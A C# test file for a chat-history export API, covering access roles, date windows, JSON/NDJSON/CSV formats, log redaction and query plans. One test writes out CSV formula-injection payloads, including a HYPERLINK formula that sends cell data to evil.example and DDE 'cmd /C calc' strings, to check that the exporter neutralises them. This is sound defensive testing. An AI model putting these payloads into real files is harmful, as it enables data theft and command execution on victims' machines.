using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using Dot.Api.Access;
using Dot.Api.Data;
using Dot.Api.History;
using Dot.Api.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Npgsql;

namespace Dot.Api.Tests;

/// <summary><c>GET /api/export_history</c>: who, which window, each format, streamed.</summary>
public sealed class ExportHistoryTests
{
    private const string Export = "/api/export_history";

    private static DateTimeOffset Utc(int month, int day, int hour = 0, int minute = 0, int second = 0)
        => new(2026, month, day, hour, minute, second, TimeSpan.Zero);

    private static async Task<JsonElement[]> ExportJsonAsync(HttpClient client, string query = "")
    {
        var response = await client.GetAsync(Export + query);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var body = await response.JsonAsync();
        Assert.Equal(JsonValueKind.Array, body.ValueKind);
        return [.. body.EnumerateArray()];
    }

    private static string[] Contents(JsonElement conversation)
        => [.. conversation.GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("content").GetString()!)];

    [Theory]
    [MemberData(nameof(QueryToken.UserIdForms), MemberType = typeof(QueryToken))]
    public async Task QueryTokenExports(string userIdForm)
    {
        await using var factory = new DotApiFactory();
        var (user, token, client) = await factory.CreateCallerAsync("sync_user@contoso.com", Role.Modeler);
        var chatId = await client.CreateChatAsync();
        await client.SayAsync(chatId, "user", "hello");

        var conversations = await ExportJsonAsync(factory.CreateClient(), $"?format=json&{QueryToken.For(user, token, userIdForm)}");

        Assert.Equal(chatId, Assert.Single(conversations).GetProperty("chat_id").GetGuid());
    }

    [Fact]
    public async Task QueryTokenNeverReachesTheLogs()
    {
        await using var factory = new DotApiFactory().WithTraceLogging();
        var (user, token, client) = await factory.CreateCallerAsync("sync_user@contoso.com", Role.Modeler);
        await client.SayAsync(await client.CreateChatAsync(), "user", "hello");

        foreach (var format in new[] { "json", "ndjson", "csv", "xml" })
        {
            await factory.CreateClient().GetAsync($"{Export}?format={format}&{QueryToken.For(user, token, "email")}");
        }

        Assert.Contains("Exported 1 conversations with 1 messages as Csv", factory.Logs.AllText, StringComparison.Ordinal);
        Assert.DoesNotContain(token[4..], factory.Logs.AllText, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(Role.User, false, HttpStatusCode.Forbidden)]
    [InlineData(Role.User, true, HttpStatusCode.Forbidden)]
    [InlineData(Role.Modeler, false, HttpStatusCode.OK)]
    [InlineData(Role.Admin, false, HttpStatusCode.OK)]
    [InlineData(Role.Admin, true, HttpStatusCode.OK)]
    public async Task ExportIsForAdminsAndModelers(Role role, bool viaQuery, HttpStatusCode expected)
    {
        await using var factory = new DotApiFactory();
        var (user, token, client) = await factory.CreateCallerAsync("caller@example.com", role);

        var response = viaQuery
            ? await factory.CreateClient().GetAsync($"{Export}?{QueryToken.For(user, token, "email")}")
            : await client.GetAsync(Export);

        Assert.Equal(expected, response.StatusCode);
        if (expected == HttpStatusCode.Forbidden)
        {
            Assert.Equal("insufficient_role", (await response.JsonAsync()).GetProperty("reason").GetString());
        }
    }

    [Fact]
    public async Task WindowIncludesStartMidnightAndExcludesEndMidnight()
    {
        await using var factory = new DotApiFactory();
        var (_, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);
        var chat = await client.CreateChatAsync("Edges");
        var outside = await client.CreateChatAsync("Only outside the window");
        await client.SayAsync(outside, "user", "too early");

        factory.Time.SetUtcNow(Utc(1, 19, 23, 59, 59));
        await client.SayAsync(chat, "user", "just before start");
        factory.Time.SetUtcNow(Utc(1, 20));
        await client.SayAsync(chat, "user", "exactly at start");
        // The last instant before the end that both stores keep: PostgreSQL keeps microseconds, not .NET's 100 ns ticks.
        factory.Time.SetUtcNow(Utc(1, 21, 23, 59, 59).AddTicks(TimeSpan.TicksPerSecond - TimeSpan.TicksPerMicrosecond));
        await client.SayAsync(chat, "assistant", "last microsecond before end");
        factory.Time.SetUtcNow(Utc(1, 22));
        await client.SayAsync(chat, "user", "exactly at end");
        await client.SayAsync(outside, "user", "too late");

        var conversation = Assert.Single(await ExportJsonAsync(client, "?start_date=2026-01-20&end_date=2026-01-22"));

        Assert.Equal(chat, conversation.GetProperty("chat_id").GetGuid());
        Assert.Equal(["exactly at start", "last microsecond before end"], Contents(conversation));
        Assert.Equal(2, conversation.GetProperty("message_count").GetInt32());
        Assert.Equal("2026-01-21T23:59:59.999999Z", conversation.GetProperty("last_message_at").GetString());
        Assert.Equal("2026-01-20T00:00:00Z", conversation.GetProperty("messages")[0].GetProperty("created_at").GetString());

        Assert.Empty(await ExportJsonAsync(client, "?start_date=2026-01-20&end_date=2026-01-20"));
    }

    [Fact]
    public async Task DefaultWindowIsFourteenDaysAgoUntilTomorrow()
    {
        await using var factory = new DotApiFactory();
        var (_, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);
        var chat = await client.CreateChatAsync();
        await client.SayAsync(chat, "user", "on Jan 15"); // 2026-01-15T12:00Z
        factory.Time.SetUtcNow(Utc(1, 29, 12));
        await client.SayAsync(chat, "user", "on Jan 29, today");
        await using (var scope = factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<DotDbContext>();
            db.ChatMessages.Add(new ChatMessage { ChatId = chat, Role = "user", Content = "on Jan 30, tomorrow", CreatedAt = Utc(1, 30, 1).UtcDateTime });
            db.ChatMessages.Add(new ChatMessage { ChatId = chat, Role = "user", Content = "on Jan 31", CreatedAt = Utc(1, 31).UtcDateTime });
            await db.SaveChangesAsync();
        }

        // Today is Jan 29: the window is [Jan 15, Jan 30).
        Assert.Equal(["on Jan 15", "on Jan 29, today"], Contents(Assert.Single(await ExportJsonAsync(client))));

        // Today is Jan 30: [Jan 16, Jan 31).
        factory.Time.SetUtcNow(Utc(1, 30));
        Assert.Equal(["on Jan 29, today", "on Jan 30, tomorrow"], Contents(Assert.Single(await ExportJsonAsync(client))));

        // Either end may be given alone.
        Assert.Equal(["on Jan 15"], Contents(Assert.Single(await ExportJsonAsync(client, "?start_date=2026-01-01&end_date=2026-01-16"))));
        Assert.Equal(4, Assert.Single(await ExportJsonAsync(client, "?start_date=2026-01-15&end_date=2026-02-01")).GetProperty("message_count").GetInt32());
    }

    [Fact]
    public async Task JsonExportIsAStreamedArrayOfConversations()
    {
        await using var factory = new DotApiFactory();
        var (_, _, modeler) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);
        var (_, _, ada) = await factory.CreateCallerAsync("ada@example.com");
        var first = await ada.CreateChatAsync("Revenue \"Q4\"");
        var second = await modeler.CreateChatAsync("Churn");
        var empty = await ada.CreateChatAsync("No messages");
        var question = await ada.SayAsync(first, "user", "What was revenue? Ünïcödé, 日本語, 🚀");
        factory.Time.Advance(TimeSpan.FromMinutes(1));
        await ada.SayAsync(first, "assistant", "Line one\nline two");
        await modeler.SayAsync(second, "user", "Churn by region?");
        await ada.LabelAsync(first, "revenue", "finance");

        using var response = await modeler.GetAsync(Export, HttpCompletionOption.ResponseHeadersRead);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        Assert.Null(response.Content.Headers.ContentLength); // streamed: nobody knew the length before writing
        Assert.Equal("no-store", response.Headers.CacheControl?.ToString());
        var conversations = (await response.JsonAsync()).EnumerateArray().ToList();
        Assert.Equal([first, second], conversations.Select(c => c.GetProperty("chat_id").GetGuid()));
        Assert.DoesNotContain(conversations, c => c.GetProperty("chat_id").GetGuid() == empty);

        var c = conversations[0];
        Assert.Equal(
            ["chat_id", "title", "author_email", "created_at", "last_message_at", "message_count", "labels", "messages"],
            c.EnumerateObject().Select(p => p.Name));
        Assert.Equal("Revenue \"Q4\"", c.GetProperty("title").GetString());
        Assert.Equal("ada@example.com", c.GetProperty("author_email").GetString());
        Assert.Equal("2026-01-15T12:00:00Z", c.GetProperty("created_at").GetString());
        Assert.Equal("2026-01-15T12:01:00Z", c.GetProperty("last_message_at").GetString());
        Assert.Equal(2, c.GetProperty("message_count").GetInt32());
        Assert.Equal(["finance", "revenue"], c.GetProperty("labels").EnumerateArray().Select(l => l.GetString()));
        var message = c.GetProperty("messages")[0];
        Assert.Equal(["message_id", "role", "content", "created_at"], message.EnumerateObject().Select(p => p.Name));
        Assert.Equal(question, message.GetProperty("message_id").GetGuid());
        Assert.Equal("user", message.GetProperty("role").GetString());
        Assert.Equal(["What was revenue? Ünïcödé, 日本語, 🚀", "Line one\nline two"], Contents(c));
        Assert.Empty(conversations[1].GetProperty("labels").EnumerateArray());
    }

    [Fact]
    public async Task NdjsonExportHasOneConversationPerLine()
    {
        await using var factory = new DotApiFactory();
        var (_, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);
        var first = await client.CreateChatAsync("First");
        var second = await client.CreateChatAsync("Second");
        await client.SayAsync(first, "user", "multi\r\nline");
        await client.SayAsync(second, "user", "one");
        await client.SayAsync(second, "assistant", "two");

        var response = await client.GetAsync($"{Export}?format=ndjson");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/x-ndjson", response.Content.Headers.ContentType?.MediaType);
        var text = await response.Content.ReadAsStringAsync();
        Assert.EndsWith("\n", text, StringComparison.Ordinal);
        var lines = text.TrimEnd('\n').Split('\n');
        Assert.Equal(2, lines.Length);
        var parsed = lines.Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Equal([first, second], parsed.Select(c => c.GetProperty("chat_id").GetGuid()));
        Assert.Equal(["multi\r\nline"], Contents(parsed[0]));
        Assert.Equal(2, parsed[1].GetProperty("message_count").GetInt32());
    }

    [Fact]
    public async Task CsvExportRoundTripsCommasQuotesNewlinesAndUnicode()
    {
        await using var factory = new DotApiFactory();
        var (_, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);
        string[] contents =
        [
            "plain",
            "a, b, and c",
            "she said \"hi\"",
            "\"quoted from the start\"",
            "line one\nline two",
            "windows\r\nline end",
            "a bare\rCR",
            "  leading and trailing spaces  ",
            "Ünïcödé, 日本語, emoji 🚀🎉, RTL עברית",
            "=SUM(A1:A2)",
            "\"",
            ",\r\n\",",
        ];
        var chat = await client.CreateChatAsync("Title, with \"quotes\"");
        var ids = new List<Guid>();
        foreach (var content in contents)
        {
            ids.Add(await client.SayAsync(chat, ids.Count % 2 == 0 ? "user" : "assistant", content));
            factory.Time.Advance(TimeSpan.FromMilliseconds(1500));
        }

        await client.LabelAsync(chat, "b, with comma", "a \"quoted\"", "ünï");

        var response = await client.GetAsync($"{Export}?format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var rows = Rfc4180.Parse(Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()));
        Assert.Equal(["chat_id", "title", "author_email", "labels", "message_id", "role", "content", "created_at"], rows[0]);
        Assert.Equal(contents.Length + 1, rows.Count);
        for (var i = 0; i < contents.Length; i++)
        {
            var row = rows[i + 1];
            Assert.Equal(8, row.Length);
            Assert.Equal(chat, Guid.Parse(row[0]));
            Assert.Equal("Title, with \"quotes\"", row[1]);
            Assert.Equal("modeler@example.com", row[2]);
            Assert.Equal(["a \"quoted\"", "b, with comma", "ünï"], row[3].Split(';'));
            Assert.Equal(ids[i], Guid.Parse(row[4]));
            Assert.Equal(i % 2 == 0 ? "user" : "assistant", row[5]);
            Assert.Equal(contents[i].StartsWith('=') ? "'" + contents[i] : contents[i], row[6]);
            var expected = new DateTime(2026, 1, 15, 12, 0, 0, DateTimeKind.Utc).AddMilliseconds(1500 * i);
            Assert.Equal(expected, DateTime.Parse(row[7], CultureInfo.InvariantCulture, DateTimeStyles.AdjustToUniversal));
        }

        Assert.Equal("2026-01-15T12:00:00Z", rows[1][7]);
        Assert.Equal("2026-01-15T12:00:01.5Z", rows[2][7]);
    }

    /// <summary>API.md §4: a plain user writes formulas into content, titles and labels; the admin's spreadsheet must not run them.</summary>
    [Fact]
    public async Task CsvCellsThatASpreadsheetWouldRunArePrefixedWithAQuote()
    {
        await using var factory = new DotApiFactory();
        var (_, _, admin) = await factory.CreateCallerAsync("admin@example.com", Role.Admin);
        var (_, _, user) = await factory.CreateCallerAsync("user@example.com");
        string[] leads = ["=", "+", "-", "@", "\t", "\r"];
        string[] payloads =
        [
            "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")",
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "a=1 (not at the start)",
        ];
        var chat = await user.CreateChatAsync("=HYPERLINK(\"https://evil.example\",\"Open\")");
        foreach (var payload in payloads)
        {
            await user.SayAsync(chat, "user", payload);
            factory.Time.Advance(TimeSpan.FromSeconds(1));
        }

        Assert.Equal(HttpStatusCode.OK, (await user.LabelAsync(chat, "+label")).StatusCode);
        var other = await user.CreateChatAsync("@title");
        await user.SayAsync(other, "assistant", "fine");
        Assert.Equal(HttpStatusCode.OK, (await user.LabelAsync(other, "-minus", "=eq", "@at")).StatusCode);

        var rows = Rfc4180.Parse(await (await admin.GetAsync($"{Export}?format=csv")).Content.ReadAsStringAsync());

        Assert.Equal(payloads.Length + 2, rows.Count);
        var cells = rows.Skip(1).SelectMany(r => r).ToList();
        foreach (var cell in cells)
        {
            Assert.False(leads.Any(l => cell.StartsWith(l, StringComparison.Ordinal)), $"a cell a spreadsheet would run: {cell}");
        }

        var contents = rows.Skip(1).Where(r => r[0] == chat.ToString()).Select(r => r[6]).ToList();
        Assert.Equal(payloads.Select(p => leads.Any(l => p.StartsWith(l, StringComparison.Ordinal)) ? "'" + p : p), contents);
        Assert.All(rows.Skip(1).Where(r => r[0] == chat.ToString()), r => Assert.Equal("'=HYPERLINK(\"https://evil.example\",\"Open\")", r[1]));
        Assert.All(rows.Skip(1).Where(r => r[0] == chat.ToString()), r => Assert.Equal("'+label", r[3]));
        var otherRow = rows.Single(r => r[0] == other.ToString());
        Assert.Equal("'@title", otherRow[1]);
        Assert.Equal("'-minus;=eq;@at", otherRow[3]);

        // The JSON formats carry the text exactly as it was written.
        var json = JsonDocument.Parse(await (await admin.GetAsync(Export)).Content.ReadAsStringAsync()).RootElement;
        var first = json.EnumerateArray().Single(c => c.GetProperty("chat_id").GetGuid() == chat);
        Assert.Equal(payloads, first.GetProperty("messages").EnumerateArray().Select(m => m.GetProperty("content").GetString()));
    }

    [Fact]
    public async Task CsvOfAnEmptyWindowIsTheHeaderRow()
    {
        await using var factory = new DotApiFactory();
        var (_, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);

        var response = await client.GetAsync($"{Export}?format=CSV");

        Assert.Equal("chat_id,title,author_email,labels,message_id,role,content,created_at\r\n", await response.Content.ReadAsStringAsync());
        Assert.Equal("[]", await (await client.GetAsync(Export)).Content.ReadAsStringAsync());
        Assert.Equal("", await (await client.GetAsync($"{Export}?format=ndjson")).Content.ReadAsStringAsync());
    }

    [Theory]
    [InlineData("start_date=2026-13-01", "start_date")]
    [InlineData("start_date=2026-02-30", "start_date")]
    [InlineData("start_date=15/01/2026", "start_date")]
    [InlineData("start_date=2026-01-01T00:00:00Z", "start_date")]
    [InlineData("end_date=tomorrow", "end_date")]
    [InlineData("start_date=2026-02-01&end_date=2026-01-01", "start_date")]
    [InlineData("start_date=2026-01-17", "start_date")] // after the default end (tomorrow, Jan 16)
    [InlineData("format=xml", "format")]
    public async Task BadParametersAnswer422ByField(string query, string field)
    {
        await using var factory = new DotApiFactory();
        var (_, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);

        var response = await client.GetAsync($"{Export}?{query}");

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        var errors = (await response.JsonAsync()).GetProperty("errors");
        Assert.True(errors.TryGetProperty(field, out _), $"expected an error for {field}: {errors}");
    }

    [Fact]
    public async Task ExportRunsAcrossManyBatchesOfConversations()
    {
        await using var factory = new DotApiFactory();
        var (user, _, client) = await factory.CreateCallerAsync("modeler@example.com", Role.Modeler);
        var chats = HistoryExporter.ChatsPerBatch * 2 + 7;
        var inWindow = factory.Time.GetUtcNow().UtcDateTime;
        await using (var scope = factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<DotDbContext>();
            for (var i = 0; i < chats; i++)
            {
                var chat = new Chat { Id = Guid.NewGuid(), Title = $"chat {i}", AuthorId = user.Id, AuthorEmail = user.Email, CreatedAt = inWindow };
                chat.Messages.Add(new ChatMessage { Id = Guid.NewGuid(), Role = "user", Content = $"q {i}", CreatedAt = inWindow });
                chat.Messages.Add(new ChatMessage { Id = Guid.NewGuid(), Role = "assistant", Content = $"a {i}", CreatedAt = inWindow.AddSeconds(1) });
                chat.Messages.Add(new ChatMessage { Id = Guid.NewGuid(), Role = "user", Content = "old", CreatedAt = inWindow.AddDays(-30) });
                chat.Labels.Add(new ChatLabel { Label = $"l{i % 3}", CreatedAt = inWindow });
                db.Chats.Add(chat);
            }

            await db.SaveChangesAsync();
        }

        var conversations = await ExportJsonAsync(client);

        Assert.Equal(chats, conversations.Length);
        Assert.Equal(chats, conversations.Select(c => c.GetProperty("chat_id").GetGuid()).Distinct().Count());
        Assert.All(conversations, c =>
        {
            var i = c.GetProperty("title").GetString()!["chat ".Length..];
            Assert.Equal([$"q {i}", $"a {i}"], Contents(c));
            Assert.Equal(2, c.GetProperty("message_count").GetInt32());
            Assert.Equal($"l{int.Parse(i, CultureInfo.InvariantCulture) % 3}", Assert.Single(c.GetProperty("labels").EnumerateArray()).GetString());
        });
        var csv = Rfc4180.Parse(await (await client.GetAsync($"{Export}?format=csv")).Content.ReadAsStringAsync());
        Assert.Equal(chats * 2 + 1, csv.Count);
    }

    [SkippableFact]
    public async Task WindowQueriesAreIndexRangeScans()
    {
        TestStore.RequireSqlite("SQLite's EXPLAIN QUERY PLAN; WindowQueriesAreIndexScansOnPostgres is the PostgreSQL counterpart");
        await using var factory = new DotApiFactory();
        await using var scope = factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<DotDbContext>();
        var window = new ExportWindow(new DateTime(2026, 1, 1, 0, 0, 0, DateTimeKind.Utc), new DateTime(2026, 1, 15, 0, 0, 0, DateTimeKind.Utc));

        var messages = await PlanAsync(db, HistoryExporter.MessagesQuery(db, window, [Guid.NewGuid(), Guid.NewGuid()]));
        var conversations = await PlanAsync(db, HistoryExporter.ConversationsQuery(db, window, Guid.NewGuid()));

        // Messages: one index range per chat, already in output order (no sort, no full scan).
        Assert.Contains("SEARCH c USING INDEX IX_chat_messages_ChatId_CreatedAt_Id (ChatId=? AND CreatedAt>? AND CreatedAt<?)", messages, StringComparison.Ordinal);
        Assert.DoesNotContain("TEMP B-TREE", messages, StringComparison.Ordinal);
        Assert.DoesNotContain("SCAN ", messages, StringComparison.Ordinal);

        // Conversations: the next chats by primary key; their counts from the same index ranges.
        Assert.Contains("SEARCH c USING INDEX sqlite_autoindex_chats_1 (Id>?)", conversations, StringComparison.Ordinal);
        Assert.Contains("USING COVERING INDEX IX_chat_messages_ChatId_CreatedAt_Id (ChatId=? AND CreatedAt>? AND CreatedAt<?)", conversations, StringComparison.Ordinal);
        Assert.DoesNotContain("SCAN ", conversations, StringComparison.Ordinal);
        Assert.DoesNotContain("TEMP B-TREE", conversations, StringComparison.Ordinal);
    }

    [SkippableFact]
    public async Task WindowQueriesAreIndexScansOnPostgres()
    {
        Skip.IfNot(TestStore.IsPostgres, "PostgreSQL's planner; on SQLite WindowQueriesAreIndexRangeScans checks SQLite's plans");
        await using var factory = new DotApiFactory();

        // On empty tables any plan is cheap and a sequential scan is often the cheapest: the plans would say nothing
        // about the index. 20,000 chats of 5 messages 3 days apart (4 in the window each), then statistics and the
        // visibility map (VACUUM ANALYZE), and the planner is left to choose freely: enable_seqscan stays on.
        await using (var connection = new NpgsqlConnection(factory.ConnectionString))
        {
            await connection.OpenAsync();
            foreach (var sql in new[]
            {
                """
                INSERT INTO chats ("Id", "Title", "AuthorEmail", "CreatedAt")
                SELECT gen_random_uuid(), 'chat ' || i, 'modeler@example.com', timestamptz '2025-12-01Z' FROM generate_series(1, 20000) i
                """,
                """
                INSERT INTO chat_messages ("Id", "ChatId", "Role", "Content", "CreatedAt")
                SELECT gen_random_uuid(), c."Id", 'user', 'message ' || n, timestamptz '2025-12-28Z' + n * interval '3 days'
                FROM chats c CROSS JOIN generate_series(1, 5) n
                """,
                "VACUUM ANALYZE chats",
                "VACUUM ANALYZE chat_messages",
            })
            {
                await using var command = new NpgsqlCommand(sql, connection);
                await command.ExecuteNonQueryAsync();
            }
        }

        await using var scope = factory.Services.CreateAsyncScope();
        var db = scope.ServiceProvider.GetRequiredService<DotDbContext>();
        var window = new ExportWindow(new DateTime(2026, 1, 1, 0, 0, 0, DateTimeKind.Utc), new DateTime(2026, 1, 15, 0, 0, 0, DateTimeKind.Utc));
        var chatIds = await db.Chats.OrderBy(c => c.Title).Select(c => c.Id).Take(2).ToListAsync();

        var messages = await PostgresPlanAsync(db, HistoryExporter.MessagesQuery(db, window, chatIds));
        var conversations = await PostgresPlanAsync(db, HistoryExporter.ConversationsQuery(db, window, Guid.NewGuid()));

        // Messages: the index's range (chat and window) for the chats, no sequential scan. PostgreSQL 15 reads the few
        // rows of a batch's chats through a bitmap and sorts them (SQLite walks the index in output order instead).
        Assert.True(messages.Nodes.Any(IsWindowRangeOfTheMessagesIndex), messages.Json);
        Assert.False(messages.Nodes.Any(n => n.Type == "Seq Scan"), messages.Json);

        // Conversations: the next chats by primary key; their messages from the same index ranges.
        // The chats through their primary key: an index scan, or (the planner's choice on some runs) a bitmap built from it.
        Assert.True(conversations.Nodes.Any(n => n.Index == "PK_chats" && n.Type is "Index Scan" or "Index Only Scan" or "Bitmap Index Scan"), conversations.Json);
        Assert.True(conversations.Nodes.Any(IsWindowRangeOfTheMessagesIndex), conversations.Json);
        Assert.False(conversations.Nodes.Any(n => n.Type == "Seq Scan"), conversations.Json);
    }

    private static bool IsWindowRangeOfTheMessagesIndex(PlanNode node)
        => node.Type is "Index Scan" or "Index Only Scan" or "Bitmap Index Scan"
            && node.Index == "IX_chat_messages_ChatId_CreatedAt_Id"
            && node.Condition is { } condition
            && condition.Contains("\"ChatId\" = ", StringComparison.Ordinal)
            && condition.Contains("\"CreatedAt\" >= ", StringComparison.Ordinal)
            && condition.Contains("\"CreatedAt\" < ", StringComparison.Ordinal);

    private sealed record PlanNode(string Type, string? Relation, string? Index, string? Condition);

    /// <summary>Every node of PostgreSQL's plan for the query (EXPLAIN (FORMAT JSON)), sub-plans included.</summary>
    private static async Task<(List<PlanNode> Nodes, string Json)> PostgresPlanAsync<T>(DotDbContext db, IQueryable<T> query)
    {
        await using var command = query.CreateDbCommand();
        command.CommandText = "EXPLAIN (FORMAT JSON) " + command.CommandText;
        await db.Database.OpenConnectionAsync();
        var json = (string)(await command.ExecuteScalarAsync())!;
        using var plan = JsonDocument.Parse(json);
        var nodes = new List<PlanNode>();
        void Walk(JsonElement node)
        {
            nodes.Add(new PlanNode(node.GetProperty("Node Type").GetString()!,
                node.TryGetProperty("Relation Name", out var relation) ? relation.GetString() : null,
                node.TryGetProperty("Index Name", out var index) ? index.GetString() : null,
                node.TryGetProperty("Index Cond", out var condition) ? condition.GetString() : null));
            if (node.TryGetProperty("Plans", out var children))
            {
                foreach (var child in children.EnumerateArray())
                {
                    Walk(child);
                }
            }
        }

        Walk(plan.RootElement[0].GetProperty("Plan"));
        return (nodes, json);
    }

    private static async Task<string> PlanAsync<T>(DotDbContext db, IQueryable<T> query)
    {
        await using var command = query.CreateDbCommand();
        command.CommandText = "EXPLAIN QUERY PLAN " + command.CommandText;
        await db.Database.OpenConnectionAsync();
        await using var reader = await command.ExecuteReaderAsync();
        var plan = new StringBuilder();
        while (await reader.ReadAsync())
        {
            plan.AppendLine(reader.GetString(3));
        }

        return plan.ToString();
    }

    /// <summary>A strict RFC 4180 reader: CRLF between records, quotes only around whole fields.</summary>
    private static class Rfc4180
    {
        public static List<string[]> Parse(string text)
        {
            var rows = new List<string[]>();
            var row = new List<string>();
            var field = new StringBuilder();
            var i = 0;
            while (i < text.Length)
            {
                if (text[i] == '"')
                {
                    i++;
                    while (true)
                    {
                        if (i >= text.Length)
                        {
                            throw new FormatException("Unterminated quoted field.");
                        }

                        if (text[i] == '"')
                        {
                            if (i + 1 < text.Length && text[i + 1] == '"')
                            {
                                field.Append('"');
                                i += 2;
                                continue;
                            }

                            i++;
                            break;
                        }

                        field.Append(text[i++]);
                    }
                }
                else
                {
                    while (i < text.Length && text[i] is not (',' or '\r' or '\n'))
                    {
                        if (text[i] == '"')
                        {
                            throw new FormatException("A quote inside an unquoted field.");
                        }

                        field.Append(text[i++]);
                    }
                }

                row.Add(field.ToString());
                field.Clear();
                if (i == text.Length)
                {
                    throw new FormatException("The last record does not end with CRLF.");
                }

                if (text[i] == ',')
                {
                    i++;
                }
                else if (text[i] == '\r' && i + 1 < text.Length && text[i + 1] == '\n')
                {
                    rows.Add([.. row]);
                    row.Clear();
                    i += 2;
                }
                else
                {
                    throw new FormatException($"Unexpected character at {i}: a bare CR or LF outside quotes.");
                }
            }

            return rows;
        }
    }
}
